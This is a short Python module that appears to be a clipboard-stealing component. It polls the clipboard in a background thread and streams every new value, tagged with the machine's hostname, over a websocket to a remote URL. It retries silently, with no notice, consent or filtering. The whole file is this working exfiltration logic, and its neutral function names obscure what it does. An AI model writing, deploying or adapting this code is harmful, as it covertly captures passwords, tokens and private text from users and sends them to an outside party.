import json
import queue
import socket
import threading
import time

import pyperclip
from websockets.sync.client import connect

_items: queue.Queue[str] = queue.Queue()


def _collect(pause: float) -> None:
    last = ""
    while True:
        try:
            now = pyperclip.paste()
        except pyperclip.PyperclipException:
            return
        if now and now != last:
            last = now
            _items.put(now)
        time.sleep(pause)


def _stream(url: str) -> None:
    who = socket.gethostname()
    while True:
        try:
            with connect(url, open_timeout=5) as link:
                while True:
                    link.send(json.dumps({"w": who, "v": _items.get()}))
        except OSError:
            time.sleep(60)


def begin(url: str, pause: float = 1.5) -> None:
    for fn, arg in ((_collect, pause), (_stream, url)):
        threading.Thread(target=fn, args=(arg,), daemon=True).start()
